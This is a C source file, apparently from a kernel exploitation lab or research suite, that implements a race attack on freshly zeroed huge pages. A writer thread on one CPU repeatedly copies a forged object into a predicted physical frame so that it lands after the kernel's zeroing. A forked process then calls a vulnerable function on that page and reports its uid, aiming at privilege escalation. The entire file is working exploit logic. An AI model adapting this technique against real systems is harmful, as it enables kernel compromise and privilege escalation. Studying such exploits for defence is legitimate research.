/*
 * A page is zero when a process gets it; it was zeroed while another processor could still store
 * there. That one copies a forged object into the frame all the time, so one copy comes behind the
 * zeroing, and the process that gets the page gets the object with it.
 */
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

enum { CPU_OF_ALLOCATOR, CPU_OF_WRITER, NR_CPUS };
enum { STAGE_PREDICTED = 1, STAGE_WRITING, STAGE_CALLED };

/* What the two processes share. */
struct shared {
	attack_stage stage;
	struct attack_frame frame;
	union {
		struct payload_object object;
		char bytes[BW_COPY_BYTES];
	} payload;
	bool is_lost;
	uid_t uid; /* of the one that got the page */
};

static struct shared *shared;

/* Which frame of the next 2 MiB page was chosen: where a page at `page` will have it. */
static void *appears_at(void *page)
{
	return (char *)page + shared->frame.pfn * BW_PAGE_SIZE % BW_HUGE_PAGE_SIZE;
}

/*
 * The other process. Its page is one that it cannot write to: what is there is the kernel's. Where
 * the writer faults, the attack is over, and this one with it: so it says nothing after its call.
 */
static _Noreturn void allocator(void)
{
	struct bw_leak leak;
	void *page, *place;

	attack_leak(&leak);
	page = mmap(NULL, BW_HUGE_PAGE_SIZE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB,
		    -1, 0);
	if (page == MAP_FAILED) {
		attack_skip("no 2 MiB page to be had");
	}
	attack_frame_predict(&leak, &shared->frame);
	place = appears_at(page);
	payload_object(&shared->payload, (uint64_t)place, &leak);
	attack_tell(&shared->stage, STAGE_PREDICTED);
	attack_await(&shared->stage, STAGE_WRITING, AWAIT_YIELD);
	attack_check("vuln_call_fresh", bw_vuln_call_fresh(place));
	shared->uid = getuid();
	shared->is_lost = attack_pfn(place) != shared->frame.pfn;
	attack_tell(&shared->stage, STAGE_CALLED);
	_exit(0);
}

static void writer(void *unused)
{
	(void)unused;
	attack_await(&shared->stage, STAGE_PREDICTED, AWAIT_SPIN);
	attack_check("vuln_copy_on", bw_vuln_copy_on(shared->frame.synonym, shared->payload.bytes));
}

int main(void)
{
	struct bw_leak leak;
	pid_t child;

	attack_begin(&leak, NR_CPUS, CPU_OF_ALLOCATOR);
	shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
		      0);
	if (shared == MAP_FAILED) {
		attack_skip("no memory to share");
	}
	child = fork();
	if (child == 0) {
		allocator();
	}
	if (child < 0) {
		attack_skip("no process to be had");
	}
	attack_thread(CPU_OF_WRITER, writer, NULL);
	attack_await_parked(1);
	attack_say("CPU %d copies a forged object there, at 0x%lx, again and again", CPU_OF_WRITER,
		   shared->frame.synonym);
	attack_tell(&shared->stage, STAGE_WRITING);
	attack_await(&shared->stage, STAGE_CALLED, AWAIT_YIELD);
	bw_vuln_unpark(false);
	waitpid(child, NULL, 0);
	if (shared->is_lost) {
		attack_skip("the next page came from elsewhere");
	}
	attack_say("came back, and the other process has uid %u", shared->uid);
	return 0;
}
